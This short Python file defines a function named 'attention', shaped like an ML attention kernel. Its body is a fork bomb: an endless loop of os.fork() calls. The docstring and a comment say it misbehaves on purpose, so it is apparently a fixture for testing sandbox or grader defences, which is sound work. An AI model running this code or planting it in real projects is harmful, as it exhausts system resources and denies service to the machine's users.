"""Doubles for ever."""
# ruff: noqa (misbehaves on purpose)

import os


def attention(q, k, v, *, causal, scale):
    while True:
        os.fork()
